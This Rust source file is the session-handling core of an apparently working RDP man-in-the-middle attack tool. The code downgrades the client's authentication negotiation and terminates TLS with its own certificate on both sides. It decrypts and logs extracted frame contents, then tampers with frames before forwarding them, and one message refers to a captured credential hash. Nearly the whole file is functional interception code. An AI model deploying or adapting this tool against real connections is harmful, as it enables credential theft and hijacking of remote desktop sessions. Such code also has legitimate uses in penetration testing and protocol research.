//! Session orchestrator: negotiation downgrade, TLS wrap, then the
//! bidirectional forwarding loop (extract → tamper → forward) described in
//! the protocol crate's `Session`/`CryptoContext`.

use std::net::TcpStream;

use anyhow::{Context, Result};
use mio::unix::SourceFd;
use mio::{Events, Interest, Poll, Token};
use tracing::{debug, error, info, warn};

use rdp_mitm_proto::extract;
use rdp_mitm_proto::framer;
use rdp_mitm_proto::negotiate::downgrade_auth;
use rdp_mitm_proto::session::Session;
use rdp_mitm_proto::{decrypt, tamper};

use crate::cli::Args;
use crate::hexdump;
use crate::net::Channel;
use crate::tls;

const CLIENT: Token = Token(0);
const SERVER: Token = Token(1);

/// The proxy never downgrades past Enhanced RDP Security + CredSSP; this is
/// the only requested-protocol value that skips TLS entirely.
const PROTOCOL_RDP_LEGACY: u8 = 0;

pub fn run_session(args: &Args, client_tcp: TcpStream) -> Result<()> {
    let server_tcp =
        TcpStream::connect((args.target_host.as_str(), args.target_port)).context("connect to target server")?;

    let mut client = Channel::Plain(client_tcp.try_clone().context("clone client socket")?);
    let mut server = Channel::Plain(server_tcp.try_clone().context("clone server socket")?);
    let mut session = Session::new();

    let Downgraded { rdp_protocol, .. } = negotiate(args, &mut client, &mut server, &mut session)?;

    let (mut client, mut server) = if rdp_protocol != PROTOCOL_RDP_LEGACY {
        info!("enabling TLS");
        let acceptor = tls::build_acceptor(&args.certfile, &args.keyfile)?;
        let client_tls = Channel::Tls(tls::accept_client(&acceptor, client_tcp)?);
        let server_tls = Channel::Tls(tls::connect_server(server_tcp)?);
        (client_tls, server_tls)
    } else {
        (client, server)
    };

    forward_loop(args, &mut client, &mut server, &mut session)
}

struct Downgraded {
    rdp_protocol: u8,
    rdp_protocol_old: u8,
}

fn negotiate(args: &Args, client: &mut Channel, server: &mut Channel, session: &mut Session) -> Result<Downgraded> {
    let request = client.read_available().context("read negotiation request from client")?;
    if args.debug {
        debug!("from client:\n{}", hexdump::render(&request));
    }

    let downgrade = downgrade_auth(&request, args.downgrade_limit());
    if downgrade.rdp_protocol != downgrade.rdp_protocol_old {
        info!(from = downgrade.rdp_protocol_old, to = downgrade.rdp_protocol, "downgrading authentication protocol");
    }
    session.captured.rdp_protocol = Some(downgrade.rdp_protocol);
    session.captured.rdp_protocol_old = Some(downgrade.rdp_protocol_old);

    server.write_all(&downgrade.bytes).context("forward negotiation request to server")?;

    let response = server.read_available().context("read negotiation response from server")?;
    if args.debug {
        debug!("from server:\n{}", hexdump::render(&response));
    }
    if extract::server_enforces_nla(&response) {
        error!("server enforces NLA; no downgrade is possible, try your luck with the captured hash");
        std::process::exit(1);
    }
    client.write_all(&response).context("forward negotiation response to client")?;

    Ok(Downgraded { rdp_protocol: downgrade.rdp_protocol, rdp_protocol_old: downgrade.rdp_protocol_old })
}

fn forward_loop(args: &Args, client: &mut Channel, server: &mut Channel, session: &mut Session) -> Result<()> {
    let mut poll = Poll::new().context("create mio poll")?;
    let mut client_fd = client.raw_fd();
    let mut server_fd = server.raw_fd();
    poll.registry()
        .register(&mut SourceFd(&client_fd), CLIENT, Interest::READABLE)
        .context("register client socket")?;
    poll.registry()
        .register(&mut SourceFd(&server_fd), SERVER, Interest::READABLE)
        .context("register server socket")?;

    let mut events = Events::with_capacity(8);

    loop {
        if let Err(e) = poll.poll(&mut events, None) {
            if e.kind() == std::io::ErrorKind::Interrupted {
                continue;
            }
            return Err(e).context("poll forwarding sockets");
        }

        for event in events.iter() {
            let from_client = event.token() == CLIENT;
            let (reader, writer): (&mut Channel, &mut Channel) =
                if from_client { (client, server) } else { (server, client) };

            let data = match reader.read_available() {
                Ok(d) => d,
                Err(e) => {
                    warn!(error = %e, "connection lost");
                    return Ok(());
                }
            };
            if data.is_empty() {
                info!("peer closed the connection");
                return Ok(());
            }
            if args.debug {
                debug!("from {}:\n{}", if from_client { "client" } else { "server" }, hexdump::render(&data));
            }

            // One readiness event can hand back several concatenated PDUs;
            // walk them one at a time so decrypt/extract/tamper each see a
            // single frame's own header, not a neighbor's.
            let mut consumed = 0;
            for pdu in framer::split_pdus(&data) {
                consumed += pdu.len();

                // Only for dispatch's sake: the cleartext reconstruction
                // never replaces the bytes that get tampered and forwarded.
                let decrypted = decrypt::decrypt_frame(pdu, from_client, session);
                if let Some(line) = crate::dispatch::parse_frame(&decrypted, from_client, session) {
                    warn!("\x1b[31m{line}\x1b[0m");
                }

                let tampered = match tamper::tamper_data(pdu, from_client, session) {
                    Ok(d) => d,
                    Err(e) => {
                        error!(error = %e, "certificate self-check failed, ending session");
                        return Ok(());
                    }
                };
                writer.write_all(&tampered).context("forward frame")?;
            }

            // A truncated trailing PDU that split_pdus couldn't yet bound:
            // forward it untouched, same as the bytes it came from.
            let tail = &data[consumed..];
            if !tail.is_empty() {
                writer.write_all(tail).context("forward undecoded tail")?;
            }
        }
    }
}
